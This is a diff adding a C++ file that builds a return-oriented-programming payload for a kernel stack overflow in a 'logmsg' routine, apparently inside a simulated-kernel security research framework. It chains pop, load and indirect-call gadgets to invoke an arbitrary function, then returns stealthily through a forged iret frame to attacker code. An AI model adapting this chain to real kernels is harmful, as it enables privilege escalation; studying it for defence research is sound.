@@ -1,0 +1,69 @@
+#include "attack/rop_chain.h"
+
+#include "common/log.h"
+#include "isa/assembler.h"
+#include "kernel/layout.h"
+
+namespace rsafe::attack {
+
+namespace {
+
+void
+put_word(std::vector<std::uint8_t>* out, std::size_t offset, Word value)
+{
+    for (int i = 0; i < 8; ++i)
+        (*out)[offset + i] =
+            static_cast<std::uint8_t>((value >> (8 * i)) & 0xff);
+}
+
+}  // namespace
+
+RopChain
+build_logmsg_chain(const GadgetFinder& finder,
+                   const kernel::GuestKernel& kernel, Addr target_function,
+                   Addr payload_addr, Addr attacker_resume)
+{
+    const auto g1 = finder.find_pop_ret(isa::R1);
+    const auto g2 = finder.find_load_ret(isa::R2, isa::R1);
+    const auto g3 = finder.find_callr(isa::R2);
+    if (!g1 || !g2 || !g3)
+        fatal("build_logmsg_chain: required gadgets not present in image");
+
+    // Frame offsets within the payload (see file comment). The pops go:
+    // hijacked ret -> G1; G1's pop -> Addr; G1's ret -> G2; G2's ret ->
+    // G3; G3's callr pushes/pops its own link; the epilogue ret -> the
+    // legitimate return site, whose iret then pops the fake user frame.
+    constexpr std::size_t kJunk = kernel::kLogMsgBufBytes + 8;  // buf + r10
+    constexpr std::size_t kG1Off = kJunk;            // hijacked ret target
+    constexpr std::size_t kAddrOff = kJunk + 8;      // popped into r1
+    constexpr std::size_t kG2Off = kJunk + 16;
+    constexpr std::size_t kG3Off = kJunk + 24;
+    constexpr std::size_t kResumeOff = kJunk + 32;   // stealthy return
+    constexpr std::size_t kFakePcOff = kJunk + 40;   // iret frame: user pc
+    constexpr std::size_t kFakeFlagsOff = kJunk + 48;  // iret frame: flags
+    constexpr std::size_t kFnptrOff = kJunk + 56;    // mem[Addr]
+    constexpr std::size_t kTotal = kJunk + 64;
+
+    RopChain chain;
+    chain.payload.assign(kTotal, 0);
+    chain.g1 = *g1;
+    chain.g2 = *g2;
+    chain.g3 = *g3;
+    chain.fnptr_offset = kFnptrOff;
+
+    // Filler the copy writes over the buffer and the saved register.
+    for (std::size_t i = 0; i < kJunk; ++i)
+        chain.payload[i] = static_cast<std::uint8_t>(0x41 + (i % 23));
+
+    put_word(&chain.payload, kG1Off, *g1);
+    put_word(&chain.payload, kAddrOff, payload_addr + kFnptrOff);
+    put_word(&chain.payload, kG2Off, *g2);
+    put_word(&chain.payload, kG3Off, *g3);
+    put_word(&chain.payload, kResumeOff, kernel.logmsg_ret_site);
+    put_word(&chain.payload, kFakePcOff, attacker_resume);
+    put_word(&chain.payload, kFakeFlagsOff, 2);  // user mode, irq enabled
+    put_word(&chain.payload, kFnptrOff, target_function);
+    return chain;
+}
+
+}  // namespace rsafe::attack
